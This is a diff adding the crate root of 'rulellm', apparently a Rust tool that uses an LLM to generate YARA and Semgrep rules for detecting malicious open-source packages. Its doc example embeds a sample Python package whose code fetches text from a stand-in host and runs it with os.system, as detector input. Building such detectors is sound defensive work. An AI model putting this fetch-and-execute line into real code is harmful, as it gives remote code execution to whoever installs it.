@@ -1,0 +1,60 @@
+//! `rulellm` — the paper's primary contribution: automatic YARA & Semgrep
+//! rule generation for OSS malware.
+//!
+//! The pipeline follows the architecture of Fig. 3:
+//!
+//! 1. **Malware knowledge extraction** (§III): package metadata via the
+//!    three paths of Fig. 1, code snippets via unpacking, CodeBERT-sim
+//!    embedding and K-Means grouping (seed 42, max-iter 500, 0.85
+//!    intra-similarity gate).
+//! 2. **Crafting** (§IV-A): metadata and code are split into *basic
+//!    units* (block boundaries per the Python execution model, 4,000-char
+//!    cap); multiple similar units from the same group go into one
+//!    chain-of-thought prompt (Table III) and the LLM emits an analysis
+//!    artifact plus a coarse-grained rule.
+//! 3. **Refining** (§IV-B): a self-reflection prompt (Table IV) aligns
+//!    the rule with the analysis, strips over-general strings, merges and
+//!    tightens conditions.
+//! 4. **Aligning** (§IV-C): an agent compiles the rule with the real
+//!    YARA/Semgrep compilers, feeds error messages back through a fix
+//!    prompt (Table V), remembers the last two errors, and gives up after
+//!    five failed attempts.
+//!
+//! The output is a set of deployable rules plus a taxonomy classifier
+//! reproducing Table XII's 11 categories / 38 subcategories.
+//!
+//! # Examples
+//!
+//! ```
+//! use rulellm::{Pipeline, PipelineConfig};
+//! use oss_registry::{Package, PackageMetadata, SourceFile, Ecosystem};
+//!
+//! let pkg = Package::new(
+//!     PackageMetadata::new("colors-tool", "0.0.0"),
+//!     vec![SourceFile::new(
+//!         "pkg/__init__.py",
+//!         "import os, requests\ndef run():\n    os.system(requests.get('https://bad.xyz/t').text)\n",
+//!     )],
+//!     Ecosystem::PyPi,
+//! );
+//! let mut pipeline = Pipeline::new(PipelineConfig::full());
+//! let output = pipeline.run(&[&pkg]);
+//! assert!(output.yara.len() + output.semgrep.len() >= 1);
+//! ```
+
+#![forbid(unsafe_code)]
+#![warn(missing_docs)]
+
+mod align;
+pub mod deploy;
+mod extraction;
+mod pipeline;
+pub mod taxonomy;
+mod units;
+
+pub use align::{align_rule, AlignOutcome};
+pub use extraction::{extract_knowledge, ExtractedPackage, PackageGroups};
+pub use pipeline::{
+    GeneratedRule, Pipeline, PipelineConfig, PipelineOutput, PipelineStats,
+};
+pub use units::{split_basic_units, BasicUnit, MAX_UNIT_CHARS};
